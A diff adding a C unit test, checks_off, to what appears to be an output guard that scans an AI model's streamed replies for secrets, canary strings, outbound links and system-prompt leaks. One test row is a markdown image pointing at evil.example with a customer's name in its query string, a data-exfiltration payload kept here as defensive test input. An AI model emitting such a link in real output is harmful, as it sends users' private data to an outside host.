@@ -328,6 +328,35 @@ static void skipped(void **state)
     assert_string_equal(buf_text(&played.out), tokens);
 }
 
+/* Each check can be switched off, and the others go on. */
+static void checks_off(void **state)
+{
+    (void)state;
+    static const struct {
+        enum guard_check check;
+        const char *text;
+    } rows[] = {{CHECK_TEXT, AWS},
+                {CHECK_LITERALS, "MERLON-CANARY-7f3a91c2d4"},
+                {CHECK_LINKS, "![a](https://evil.example/p.png?q=the+customer+is+Jane)"},
+                {CHECK_LEAK, RIG_PROMPT}};
+    for (size_t i = 0; i < COUNT_OF(rows); i++)
+        for (size_t k = 0; k < COUNT_OF(rows); k++) {
+            struct protocol p = protocols[0];
+            size_t cuts[] = {5, 12, 15};
+            memset(scope.checks.off, 0, sizeof scope.checks.off);
+            scope.checks.off[rows[i].check] = true;
+            buf_reset(&bytes);
+            buf_reset(&said);
+            buf_reset(&played.out);
+            buf_printf(&said, "So: %s [EMAIL_1] and on", rows[k].text);
+            put_stream(&p, buf_slice(&said), cuts, COUNT_OF(cuts), &bytes);
+            play(&p, buf_slice(&bytes), 0, 0, &played);
+            assert_int_equal(played.record.match_count > 0, i != k);
+            assert_int_equal(slice_has(buf_slice(&played.out), S("jane@corp.net")),
+                             side()->action != ACT_BLOCK);
+        }
+}
+
 /* ---- a declared form ---- */
 
 static void forms(void **state)
@@ -428,10 +457,10 @@ int main(void)
 {
 #define ONE(f) cmocka_unit_test_setup(f, fresh)
     const struct CMUnitTest tests[] = {
-        ONE(odd_framing), ONE(as_sent),  ONE(interleaved), ONE(blocks),  ONE(no_reason_is_no_end),
-        ONE(in_time),     ONE(buffered), ONE(observed),    ONE(blocked), ONE(blocks_stay),
-        ONE(unknown),     ONE(skipped),  ONE(forms),       ONE(bounds),  ONE(crowds),
-        ONE(twice)};
+        ONE(odd_framing), ONE(as_sent),   ONE(interleaved), ONE(blocks),  ONE(no_reason_is_no_end),
+        ONE(in_time),     ONE(buffered),  ONE(observed),    ONE(blocked), ONE(blocks_stay),
+        ONE(unknown),     ONE(skipped),   ONE(forms),       ONE(bounds),  ONE(crowds),
+        ONE(twice),       ONE(checks_off)};
     buf_init(&played.out, 16u << 20);
     buf_init(&bytes, 16u << 20);
     buf_init(&said, 16u << 20);
